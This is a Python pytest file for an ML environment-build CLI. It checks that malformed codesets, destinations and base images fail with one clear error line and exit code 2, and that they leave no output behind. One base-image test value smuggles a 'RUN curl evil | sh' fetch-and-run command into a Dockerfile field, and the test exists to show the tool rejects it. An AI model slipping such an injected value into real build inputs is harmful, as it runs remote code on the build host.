"""Every bad codeset ends with one line naming file and field, exit 2, no output."""

from __future__ import annotations

import time
from pathlib import Path

import pytest
from support.bad_input_corpus import BAD_CODESETS, MAIN, SECRET, materialise
from support.helpers import run_cli, write_codeset

from mlflow_steps.core.errors import StepError
from mlflow_steps.env.spec import BuildOptions, resolve_env


@pytest.mark.parametrize("case", sorted(BAD_CODESETS))
def test_bad_codeset_is_one_clear_line(tmp_path: Path, case: str) -> None:
    files, words = BAD_CODESETS[case]
    codeset = materialise(tmp_path / "cs", files)
    with pytest.raises(StepError) as caught:
        resolve_env(codeset, BuildOptions())
    message = str(caught.value)
    assert "\n" not in message
    assert SECRET not in message, f"{case}: secret in {message!r}"
    for word in words:
        assert word in message, f"{case}: {word!r} not in {message!r}"


@pytest.mark.parametrize("case", ["missing MLproject", "binary garbage requirements",
                                  "include escapes the codeset", "both env fields"])
def test_cli_exit_code_and_no_partial_output(tmp_path: Path, case: str) -> None:
    files, words = BAD_CODESETS[case]
    codeset = write_codeset(tmp_path / "cs", files)
    out = tmp_path / "context"
    for args in (["hash", str(codeset)], ["render", str(codeset), "-o", str(out)]):
        result = run_cli(*args)
        assert result.returncode == 2
        assert result.stdout == ""
        lines = result.stderr.strip().splitlines()
        assert len(lines) == 1 and lines[0].startswith("mlflow-steps: error: ")
        assert "Traceback" not in result.stderr and words[0] in lines[0]
    assert not out.exists()
    assert not list(tmp_path.glob(".render-*"))


def test_fifty_megabyte_requirements_is_refused_quickly(tmp_path: Path) -> None:
    codeset = write_codeset(tmp_path / "cs", {"MLproject": MAIN})
    with (codeset / "requirements.txt").open("w") as handle:
        line = "numpy==1.26.4\n"
        handle.write(line * (50 * 1024 * 1024 // len(line)))
    started = time.perf_counter()
    with pytest.raises(StepError, match=r"requirements.txt: file is 5\d\.\d MB, over"):
        resolve_env(codeset, BuildOptions())
    # Bounded: the size check happens before reading (generous bound for noisy machines).
    assert time.perf_counter() - started < 10


@pytest.mark.parametrize("args, field", [
    (["--repository", "Team/Trainer"], "repository"),  # registries answer 404 to upper case
    (["--repository", "team//trainer"], "repository"),
    (["--repository", "team/trainer:v1"], "repository"),
    (["--registry", "reg example:5000"], "registry"),
    (["--registry", "127.0.0.1:9/path"], "registry"),
])
def test_destination_must_be_a_registry_and_repository(tmp_path: Path, args: list[str],
                                                        field: str) -> None:
    """Caught before anything is hashed, built or pushed: one line naming the field, exit 2
    (an upper-case repository used to build for seconds, then fail on the registry's 404)."""
    codeset = write_codeset(tmp_path / "cs", {"MLproject": MAIN, "requirements.txt": "numpy\n"})
    result = run_cli("build", str(codeset), "--registry", "127.0.0.1:9", *args)
    assert result.returncode == 2 and result.stdout == "", result.stderr
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and f": {field}: " in lines[0] and "Traceback" not in lines[0]


def test_unknown_strategy_names_the_input(tmp_path: Path) -> None:
    result = run_cli("hash", str(tmp_path), "--env-strategy", "docker")
    assert result.returncode == 2 and "env-strategy" in result.stderr


@pytest.mark.parametrize("base", ["python:3.11\nRUN curl evil | sh", "Python:3.11",
                                  "reg.example/x y", "python:3.11 AS x"])
def test_base_image_must_be_an_image_reference(tmp_path: Path, base: str) -> None:
    """hash, render and build: one line naming base_image, exit 2, nothing written."""
    codeset = write_codeset(tmp_path / "cs", {"MLproject": MAIN, "requirements.txt": "numpy\n"})
    for args in (["hash", str(codeset)], ["render", str(codeset), "-o", str(tmp_path / "o")],
                 ["build", str(codeset), "--registry", "127.0.0.1:9"]):
        result = run_cli(*args, "--base-image", base)
        assert result.returncode == 2 and result.stdout == "", result.stderr
        lines = result.stderr.strip().splitlines()
        assert len(lines) == 1 and "base_image" in lines[0]
        assert "not an image reference" in lines[0]
    assert not (tmp_path / "o").exists()
